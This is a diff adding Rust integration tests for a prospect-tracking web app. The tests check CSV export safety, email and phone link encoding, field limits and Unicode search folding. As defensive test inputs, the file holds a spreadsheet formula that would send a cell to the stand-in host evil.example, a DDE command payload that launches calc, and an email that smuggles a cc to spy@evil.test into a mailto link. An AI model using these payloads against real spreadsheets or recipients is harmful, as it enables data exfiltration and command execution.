@@ -1,0 +1,469 @@
+//! Rules for the text Rally keeps and hands out: one set of field rules
+//! for the form, quick add, edit and import; one email key; search with
+//! Unicode case folding; CSV exports that a spreadsheet cannot run; links
+//! built from data that cannot say more than the data.
+
+use crate::helpers::{TestApp, hidden, spawn_app};
+
+/// Uploads `csv` to the import and confirms it; the preview page.
+async fn import(app: &TestApp, csv: &[u8]) -> String {
+    let csrf = app.csrf_as(&app.client, "/prospects/import").await;
+    let form = reqwest::multipart::Form::new().text("_csrf", csrf).part(
+        "file",
+        reqwest::multipart::Part::bytes(csv.to_vec())
+            .file_name("prospects.csv")
+            .mime_str("text/csv")
+            .unwrap(),
+    );
+    let res = app
+        .client
+        .post(app.url("/prospects/import"))
+        .multipart(form)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 303, "{}", res.text().await.unwrap());
+    let preview_url = res.headers()["location"].to_str().unwrap().to_string();
+    let preview = app.page(&preview_url).await;
+    let csrf = hidden(&preview, "_csrf");
+    let res = app
+        .post_as(
+            &app.client,
+            &format!("{preview_url}/confirm"),
+            &[("_csrf", csrf.as_str())],
+        )
+        .await;
+    assert_eq!(res.status(), 303);
+    preview
+}
+
+/// The raw bytes of the signed-in export.
+async fn export(app: &TestApp) -> Vec<u8> {
+    app.get("/prospects/export.csv")
+        .await
+        .bytes()
+        .await
+        .unwrap()
+        .to_vec()
+}
+
+async fn prospect_row(app: &TestApp, email: &str) -> (String, Option<String>, Option<String>) {
+    rally::on_pool!(&app.pool, p => sqlx::query_as(
+        "SELECT name, phone, company FROM prospects WHERE email = $1",
+    )
+    .bind(email)
+    .fetch_one(p)
+    .await
+    .unwrap())
+}
+
+/// Item 10: formula cells are neutralised in both exports, phone numbers
+/// are data, the file has a byte-order mark, and an export imports back as
+/// it was.
+#[tokio::test]
+async fn exports_cannot_run_formulas_and_import_back_unchanged() {
+    let app = spawn_app().await;
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&C2,"Click")"#;
+    let command = "+cmd|' /C calc'!A0";
+    assert_eq!(
+        app.submit(&[
+            ("name", formula),
+            ("email", "formula@example.com"),
+            ("phone", "+1 555 0100"),
+            ("company", command),
+        ])
+        .await,
+        303
+    );
+    assert_eq!(
+        app.submit(&[
+            ("name", "@Zoë Élodie Иван"),
+            ("email", "zoe@example.com"),
+            ("phone", "-555-0100 22"),
+            ("company", "-2+3"),
+        ])
+        .await,
+        303
+    );
+    app.drain().await;
+    app.sign_in().await;
+
+    let web = export(&app).await;
+    let mut cli = Vec::new();
+    rally::export::prospects(&app.pool, "demo", &mut cli)
+        .await
+        .unwrap();
+    for (which, bytes) in [("web", &web), ("cli", &cli)] {
+        assert!(bytes.starts_with("\u{feff}".as_bytes()), "{which}: no BOM");
+        let csv = String::from_utf8(bytes.to_vec()).unwrap();
+        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+        for record in reader.records() {
+            let record = record.unwrap();
+            for (i, cell) in record.iter().enumerate() {
+                let phone_ok = i == 3 && ["+1 555 0100", "-555-0100 22"].contains(&cell);
+                assert!(
+                    phone_ok || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{which}: cell {i} {cell:?} would run as a formula"
+                );
+            }
+        }
+        assert!(
+            csv.contains(r#"'=HYPERLINK(""http://evil.example/?x=""&C2,""Click"")"#),
+            "{csv}"
+        );
+        assert!(csv.contains("'+cmd|' /C calc'!A0"), "{csv}");
+        assert!(csv.contains(",+1 555 0100,"), "{csv}");
+        assert!(csv.contains("'@Zoë Élodie Иван"), "{csv}");
+    }
+
+    // The export, imported into an empty organization's list, gives back
+    // exactly what was stored.
+    let before = (
+        prospect_row(&app, "formula@example.com").await,
+        prospect_row(&app, "zoe@example.com").await,
+    );
+    rally::on_pool!(&app.pool, p => {
+        for sql in ["DELETE FROM timeline_entries", "DELETE FROM prospects"] {
+            sqlx::query(sql).execute(p).await.unwrap();
+        }
+    });
+    let preview = import(&app, &web).await;
+    assert!(
+        preview.contains("<strong>2</strong> new prospects"),
+        "{preview}"
+    );
+    let after = (
+        prospect_row(&app, "formula@example.com").await,
+        prospect_row(&app, "zoe@example.com").await,
+    );
+    assert_eq!(after, before);
+    assert_eq!(before.0.0, formula);
+    assert_eq!(before.0.1.as_deref(), Some("+1 555 0100"));
+    assert_eq!(before.0.2.as_deref(), Some(command));
+}
+
+/// Item 11: an address is an addr-spec, and the link made from it names
+/// that one recipient and nothing else.
+#[tokio::test]
+async fn email_links_carry_the_address_and_nothing_more() {
+    let app = spawn_app().await;
+    app.sign_in().await;
+    let csrf = app.csrf_as(&app.client, "/prospects").await;
+    for bad in [
+        "Ana <ana@example.com>",
+        "ana@example.com?cc=spy@evil.test",
+        "\"ana lima\"@example.com",
+        "ana@[127.0.0.1]",
+        "ana@localhost",
+        "ana@@example.com",
+        "ana@exa mple.com",
+    ] {
+        let res = app
+            .post_as(
+                &app.client,
+                "/prospects",
+                &[
+                    ("_csrf", csrf.as_str()),
+                    ("name", "Bad Address"),
+                    ("email", bad),
+                ],
+            )
+            .await;
+        assert_eq!(res.status(), 422, "{bad:?} accepted");
+    }
+    // Valid by the addr-spec, and dangerous in a link unless encoded.
+    let tricky = "victim?cc=spy%40evil.test&body=hello#x@example.com";
+    let res = app
+        .post_as(
+            &app.client,
+            "/prospects",
+            &[
+                ("_csrf", csrf.as_str()),
+                ("name", "Tricky Address"),
+                ("email", tricky),
+            ],
+        )
+        .await;
+    assert_eq!(res.status(), 303);
+    let page = app.page(res.headers()["location"].to_str().unwrap()).await;
+    assert!(
+        page.contains(
+            r#"href="mailto:victim%3Fcc%3Dspy%2540evil.test%26body%3Dhello%23x@example.com""#
+        ),
+        "{page}"
+    );
+    assert!(!page.contains("mailto:victim?"), "{page}");
+    // A phone link holds the number's digits only.
+    let res = app
+        .post_as(
+            &app.client,
+            "/prospects",
+            &[
+                ("_csrf", csrf.as_str()),
+                ("name", "Phone Link"),
+                ("email", "phone-link@example.com"),
+                ("phone", "+1 (555) 010-0100"),
+            ],
+        )
+        .await;
+    let page = app.page(res.headers()["location"].to_str().unwrap()).await;
+    assert!(page.contains(r#"href="tel:+15550100100""#), "{page}");
+}
+
+/// Item 18: a 147-character name and a 150-character company from the
+/// public form can be edited (the stage changed) and imported again; the
+/// same name is accepted by quick add.
+#[tokio::test]
+async fn a_long_name_from_the_form_can_be_edited_and_imported_again() {
+    let app = spawn_app().await;
+    let name = format!("Maria {}Lopez", "Antonia ".repeat(17));
+    assert_eq!(name.chars().count(), 147);
+    let company = "C".repeat(150);
+    assert_eq!(
+        app.submit(&[
+            ("name", &name),
+            ("email", "long.name@example.com"),
+            ("company", &company)
+        ])
+        .await,
+        303
+    );
+    app.drain().await;
+    app.sign_in().await;
+    let id = app
+        .count("SELECT id FROM prospects WHERE email = 'long.name@example.com'")
+        .await;
+    let edit = app.page(&format!("/prospects/{id}/edit")).await;
+    let csrf = hidden(&edit, "_csrf");
+    let res = app
+        .post_as(
+            &app.client,
+            &format!("/prospects/{id}/edit"),
+            &[
+                ("_csrf", csrf.as_str()),
+                ("name", &name),
+                ("phone", ""),
+                ("company", &company),
+                ("stage", "contacted"),
+                ("tags", ""),
+            ],
+        )
+        .await;
+    assert_eq!(res.status(), 303, "{}", res.text().await.unwrap());
+    assert_eq!(
+        app.count("SELECT COUNT(*) FROM prospects WHERE stage = 'contacted'")
+            .await,
+        1
+    );
+
+    // The shared case: the export of that prospect, imported as a new one.
+    let csv = format!(
+        "id,name,email,phone,company,source,created_at,submissions,stage,owner\n\
+         10,{name},long.name.again@example.com,,,form:demo,2026-11-30 13:28 UTC,1,new,\n"
+    );
+    let preview = import(&app, csv.as_bytes()).await;
+    assert!(
+        preview.contains("<strong>1</strong> new prospects"),
+        "{preview}"
+    );
+    assert_eq!(
+        app.count("SELECT COUNT(*) FROM prospects WHERE email = 'long.name.again@example.com'")
+            .await,
+        1
+    );
+    // Its own export, imported back, merges and leaves nobody out.
+    let preview = import(&app, &export(&app).await).await;
+    assert!(preview.contains("<strong>0</strong> left out"), "{preview}");
+    assert_eq!(app.count("SELECT COUNT(*) FROM prospects").await, 2);
+
+    let csrf = app.csrf_as(&app.client, "/prospects").await;
+    let res = app
+        .post_as(
+            &app.client,
+            "/prospects",
+            &[
+                ("_csrf", csrf.as_str()),
+                ("name", &name),
+                ("email", "quick.long@example.com"),
+            ],
+        )
+        .await;
+    assert_eq!(res.status(), 303);
+    // Past the one limit, every way in refuses with the same message.
+    let too_long = "n".repeat(201);
+    let res = app
+        .post_as(
+            &app.client,
+            "/prospects",
+            &[
+                ("_csrf", csrf.as_str()),
+                ("name", &too_long),
+                ("email", "too.long@example.com"),
+            ],
+        )
+        .await;
+    assert_eq!(res.status(), 422);
+    assert!(
+        res.text()
+            .await
+            .unwrap()
+            .contains("200 characters or fewer")
+    );
+}
+
+/// The prospects page searched for `q`.
+async fn search(app: &TestApp, q: &str) -> String {
+    let query = serde_urlencoded::to_string([("q", q)]).unwrap();
+    app.page(&format!("/prospects?{query}")).await
+}
+
+/// Item 21: search folds case for every script, on both databases, and
+/// one email key makes NFC and NFD, a Unicode domain and its punycode,
+/// one person wherever they come in.
+#[tokio::test]
+async fn search_folds_case_and_one_key_per_address() {
+    let app = spawn_app().await;
+    for (name, email) in [
+        ("Élodie Martin", "elodie@example.com"),
+        ("Иван Петров", "ivan.petrov@example.com"),
+        ("Jörg Straße", "joerg@example.com"),
+    ] {
+        assert_eq!(app.submit(&[("name", name), ("email", email)]).await, 303);
+    }
+    // The same people in other byte forms.
+    for (name, email) in [
+        ("José Nfc", "jos\u{e9}@example.com"),
+        ("José Nfd", "jose\u{301}@example.com"),
+        ("Jörg Unicode", "joerg2@münchen-test.de"),
+        ("Jörg Punycode", "joerg2@xn--mnchen-test-thb.de"),
+        ("Jörg Capitals", "JOERG2@MÜNCHEN-TEST.DE"),
+    ] {
+        assert_eq!(app.submit(&[("name", name), ("email", email)]).await, 303);
+    }
+    app.drain().await;
+    assert_eq!(app.count("SELECT COUNT(*) FROM prospects").await, 5);
+    assert_eq!(
+        app.count("SELECT COUNT(*) FROM prospects WHERE email = 'joerg2@xn--mnchen-test-thb.de'")
+            .await,
+        1
+    );
+    app.sign_in().await;
+    for (query, expected) in [
+        ("Élodie", "Élodie Martin"),
+        ("ÉLODIE", "Élodie Martin"),
+        ("élodie", "Élodie Martin"),
+        ("E\u{301}lodie", "Élodie Martin"),
+        ("Иван", "Иван Петров"),
+        ("Петров", "Иван Петров"),
+        ("иван", "Иван Петров"),
+        ("ПЕТРОВ", "Иван Петров"),
+        ("STRASSE", "Jörg Straße"),
+        ("JÖRG", "Jörg Straße"),
+        // (Which of a person's submissions came first, and so their name,
+        // depends on the workers: these look for the one email.)
+        ("JOSÉ@", "jos\u{e9}@example.com"),
+        ("MÜNCHEN", "joerg2@xn--mnchen-test-thb.de"),
+    ] {
+        let page = search(&app, query).await;
+        assert!(
+            page.contains(expected),
+            "{query:?} does not find {expected:?}"
+        );
+    }
+    assert!(!search(&app, "Петрова").await.contains("Иван Петров"));
+
+    // Quick add and import use the same key.
+    let csrf = app.csrf_as(&app.client, "/prospects").await;
+    let res = app
+        .post_as(
+            &app.client,
+            "/prospects",
+            &[
+                ("_csrf", csrf.as_str()),
+                ("name", "José Again"),
+                ("email", "JOSE\u{301}@EXAMPLE.COM"),
+            ],
+        )
+        .await;
+    assert_eq!(res.status(), 422);
+    assert!(res.text().await.unwrap().contains("already a prospect"));
+    let preview = import(
+        &app,
+        "email,name\nJOS\u{c9}@example.com,José Import\n".as_bytes(),
+    )
+    .await;
+    assert!(preview.contains("<strong>1</strong> merged"), "{preview}");
+    assert_eq!(app.count("SELECT COUNT(*) FROM prospects").await, 5);
+    // Sign-in finds an account by the same key.
+    let res = app
+        .client
+        .post(app.url("/signin"))
+        .form(&[
+            ("email", " OWNER@Demo.Rally.Test "),
+            ("password", app.demo.password.as_str()),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 303);
+}
+
+/// Rows stored before the search column existed are found as before, and
+/// start-up gives them their search text and email key.
+#[tokio::test]
+async fn rows_from_before_are_backfilled() {
+    let app = spawn_app().await;
+    let now = rally::db::now_ms();
+    rally::on_pool!(&app.pool, p => {
+        sqlx::query(
+            "INSERT INTO prospects (organization_id, email, name, source, created_at, updated_at)
+             SELECT id, $2, 'Ольга Old', 'import', $1, $1 FROM organizations WHERE slug = 'demo'",
+        )
+        .bind(now)
+        .bind("olga@xn--mnchen-test-thb.de")
+        .execute(p)
+        .await
+        .unwrap();
+        sqlx::query(
+            "INSERT INTO prospects (organization_id, email, name, source, created_at, updated_at)
+             SELECT id, $2, 'Nfd Old', 'import', $1, $1 FROM organizations WHERE slug = 'demo'",
+        )
+        .bind(now)
+        .bind("rene\u{301}@example.com")
+        .execute(p)
+        .await
+        .unwrap();
+        sqlx::query("INSERT INTO users (email, name, password_hash, created_at) VALUES ($1, 'Old User', 'x', $2)")
+            .bind("old.user@MÜNCHEN-TEST.DE")
+            .bind(now)
+            .execute(p)
+            .await
+            .unwrap();
+    });
+    app.sign_in().await;
+    // Not yet folded: found as the database compares.
+    assert!(app.page("/prospects?q=old").await.contains("Ольга Old"));
+    let updated = rally::db::prospects::backfill(&app.pool).await.unwrap();
+    assert_eq!(updated, 2);
+    assert_eq!(
+        app.count("SELECT COUNT(*) FROM prospects WHERE search_text IS NULL")
+            .await,
+        0
+    );
+    assert!(
+        app.page("/prospects?q=%D0%9E%D0%9B%D0%AC%D0%93%D0%90")
+            .await
+            .contains("Ольга Old")
+    );
+    assert_eq!(
+        app.count("SELECT COUNT(*) FROM prospects WHERE email = 'ren\u{e9}@example.com'")
+            .await,
+        1
+    );
+    // Accounts are looked up by the same key.
+    assert_eq!(
+        app.count("SELECT COUNT(*) FROM users WHERE email = 'old.user@xn--mnchen-test-thb.de'")
+            .await,
+        1
+    );
+}
